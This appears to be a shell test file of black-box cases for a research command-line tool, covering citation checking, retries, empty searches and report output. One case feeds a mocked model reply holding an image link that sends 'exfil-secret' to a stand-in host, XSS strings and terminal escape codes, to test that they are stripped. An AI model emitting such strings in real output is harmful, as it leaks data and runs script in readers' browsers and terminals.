# Black-box cases of the research run: citations, the write step, what is
# searched, runs that read nothing, the brief without a model, report output.
# Sourced by tests/blackbox.sh (run, rc_is, out_has, start_llm, $Q, $B, $TMP).
RBQ="Why did the US switch off GPS Selective Availability?"
RBH="$TMP/rb-home"
RB="$Q research --home $RBH --allow-private --sources web --depth 1"
start_llm rb-auto '[{"auto":"research"}]'
RBAUTO=$LU

# Citations in every shape a model writes them: only [F#] naming a finding
# survives; each other marker is removed and counted, its sentence uncited.
start_llm rb-markers '[{"match":"<finding id=","content":"Selective availability was switched off in May 2000 because its value had shrunk [7]. Opening the signal created broad value for many users across the world [F1]. Receivers improved a great deal after the change in every region [5][6]. Surveyors and farmers gained the most from the open signal overall [^4]. Differential corrections had already removed most of the error 【8】. The military could not have captured that value itself (Source 9). Ordinary users were the ones penalised by the degradation [source 3] [F99].\n"},{"auto":"research"}]'
run rb-markers env QUARRY_LLM_BASE_URL="$LU" QUARRY_LLM_MODEL=m $RB --no-cache -f json "$RBQ"
rc_is 0; out_has '"citations_removed": 8'; out_has '"citations_verified": 1'
out_has '"unsupported_sentences": 6'
run rb-markers-md "$Q" runs export 1 --home "$RBH"
rc_is 0; out_has "across the world [1]."; out_has "shrunk. [unsupported]"
for m in "[7]" "[5]" "[6]" "[^4]" "【8】" "(Source 9)" "[source 3]" "F99" "[3]"; do out_lacks "$m"; done

# A reply that cites nothing gets one corrective retry, then it is used.
start_llm rb-uncited '[{"match":"cited no finding","content":"Selective availability was switched off in May 2000 because its value had shrunk [F1].\n"},{"match":"<finding id=","content":"A fluent answer that cites nothing at all, although it talks at length about the world.\n"},{"auto":"research"}]'
run rb-uncited env QUARRY_LLM_BASE_URL="$LU" QUARRY_LLM_MODEL=m $RB --no-cache "$RBQ"
rc_is 0; err_has "the model's report cited no finding; asking once more"
out_has "had shrunk [1]."; out_has "[1] Report "; out_lacks "fluent answer"
# Not prose twice (a JSON object): the report is built from the checked findings.
start_llm rb-json '[{"match":"<finding id=","content":"{\"report\": \"Selective availability ended in 2000.\"}"},{"auto":"research"}]'
run rb-json env QUARRY_LLM_BASE_URL="$LU" QUARRY_LLM_MODEL=m $RB --no-cache "$RBQ"
rc_is 0; err_has "was a JSON object, not a report, twice"; err_has "lists the checked findings instead"
out_has "[1] Report "; out_has "as checked findings"; out_lacks '"report"'
# An echo of the prompt is no report either.
start_llm rb-echo '[{"match":"<finding id=","content":"Question: Why did the US switch off GPS Selective Availability?\n\nFindings (each checked against its source):\n"},{"auto":"research"}]'
run rb-echo env QUARRY_LLM_BASE_URL="$LU" QUARRY_LLM_MODEL=m $RB --no-cache -f json "$RBQ"
rc_is 0; err_has "repeated the prompt"; out_has '"mode": "notes"'
if grep -q '"citations_verified": [1-9]' "$TMP/out"; then ok; else bad "the notes report cites no finding"; fi

# A planner whose queries find nothing: the question itself is searched too.
start_llm rb-junk '[{"match":"Plan research","content":"{\"sub_questions\": [\"x\"], \"queries\": [\"zznothing junk one\", \"zznothing junk two\"]}"},{"auto":"research"}]'
run rb-junk-queries env QUARRY_LLM_BASE_URL="$LU" QUARRY_LLM_MODEL=m $RB --no-cache "$RBQ"
rc_is 0; out_lacks "Sources read: 0"; out_has "[1] Report "

# A run that reads no source exits 1 and says which step came up empty.
run rb-nothing-found $RB --no-llm "zznothing at all here"
rc_is 1; err_has "no source could be read: 1 search returned nothing"; out_lacks "## Sources"
run rb-nothing-found-model env QUARRY_LLM_BASE_URL="$RBAUTO" QUARRY_LLM_MODEL=m $RB "zznothing at all here"
rc_is 1; err_has "searches returned nothing"
run rb-dead-pages $RB --no-llm "zzdeadpages question"
rc_is 1; err_has "no source could be read: all 3 pages failed (2 HTTP errors, 1 unreachable)"
run rb-refused-pages env -u QUARRY_ALLOW_PRIVATE "$Q" research --home "$RBH" --sources web --no-llm "zzdeadpages question"
rc_is 1; err_has "all 3 pages failed (3 refused by the address policy)"

# Model-written images, raw HTML and terminal controls: neutralised in
# Markdown, escaped in HTML, gone from every format.
start_llm rb-hostile '[{"match":"<finding id=","content":"Selective availability was switched off in May 2000 because its value had shrunk [F1]. ![chart](http://127.0.0.1:9/?d=exfil-secret) <img src=x onerror=alert(1)> <script>alert(2)</script> \u001b]0;pwned\u0007\u001b[31mred\u009b0m done.\n"},{"auto":"research"}]'
run rb-hostile-md env QUARRY_LLM_BASE_URL="$LU" QUARRY_LLM_MODEL=m $RB --no-cache "$RBQ"
rc_is 0; out_has "(image not shown: chart)"; out_lacks "exfil-secret"; out_lacks "<img"; out_lacks "<script"
out_has "&lt;img src=x"
if LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')" "$TMP/out"; then bad "control characters in the report"; else ok; fi
if grep -q "$(printf '\302\233')" "$TMP/out"; then bad "C1 control in the report"; else ok; fi
RBN=$("$Q" runs ls --home "$RBH" | awk 'NR>1 {print $1}' | sort -n | tail -1)
run rb-hostile-html "$Q" runs export "$RBN" --home "$RBH" -f html
rc_is 0; out_lacks "<img"; out_lacks "<script>"; out_has "&lt;img src=x"
if LC_ALL=C grep -q "$(printf '[\001-\010\013-\037\177]')" "$TMP/out"; then bad "control characters in the HTML report"; else ok; fi
run rb-hostile-json "$Q" runs export "$RBN" --home "$RBH" -f json
rc_is 0; out_lacks '\u001b'; out_lacks '\u0007'; out_lacks '\u009b'

# The brief without a model: bullets that answer first, each cited.
RBD="$TMP/rb-demo"
"$Q" index add --home "$RBD" sample/corpus >/dev/null 2>&1
run rb-brief-bullets env -u QUARRY_LLM_BASE_URL "$Q" research --home "$RBD" --sources corpus --no-llm \
	"Why did the US switch off GPS Selective Availability, and what does that teach about opening up AI models?"
rc_is 0; out_has "What the best-matching passages say"
N=$(sed -n '/^What the best-matching/,/^The passages/p' "$TMP/out" | grep -c '^- .*\. \[[0-9]\]$')
[ "$N" -ge 3 ] && [ "$N" -le 5 ] && ok || bad "$N cited bullets, expected 3 to 5"
out_has "- Selective Availability (SA) was a deliberate degradation"
# A relevance floor: a question that shares one word with the corpus gets no brief.
run rb-brief-nothing-relevant env -u QUARRY_LLM_BASE_URL "$Q" research --home "$RBD" --sources corpus \
	--no-llm "What do bakers think about GPS?"
rc_is 1; err_has 'nothing relevant found for "What do bakers think about GPS?" in 3 documents'
out_lacks "## Sources"
# Headings only from document structure: '#' comment lines of a .txt file are prose.
mkdir -p "$TMP/rb-txt"
printf '# Notes on receivers\n# kept by the field team\n\nSelective availability degraded the civilian GPS signal on purpose until May 2000, when the United States switched it off for good.\n' >"$TMP/rb-txt/notes.txt"
"$Q" index add --home "$TMP/rb-txth" "$TMP/rb-txt" >/dev/null 2>&1
run rb-txt-headings env -u QUARRY_LLM_BASE_URL "$Q" research --home "$TMP/rb-txth" --sources corpus \
	--no-llm "When was selective availability switched off?"
rc_is 0; out_lacks "## kept by the field team"; out_lacks "## Notes on receivers"; out_has "notes.txt"
run rb-txt-search "$Q" search --home "$TMP/rb-txth" --json "selective availability"
rc_is 0; out_lacks "kept by the field team\""
